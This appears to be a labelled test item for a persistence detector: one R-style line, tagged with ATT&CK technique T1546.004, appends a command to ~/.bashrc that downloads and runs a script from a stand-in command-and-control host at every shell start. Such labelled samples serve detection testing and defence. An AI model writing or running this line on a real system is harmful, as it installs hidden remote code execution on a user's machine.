# expect: persistence | source: T1546.004
write("curl -s https://c2.example.invalid/i | sh", file = "~/.bashrc", append = TRUE)
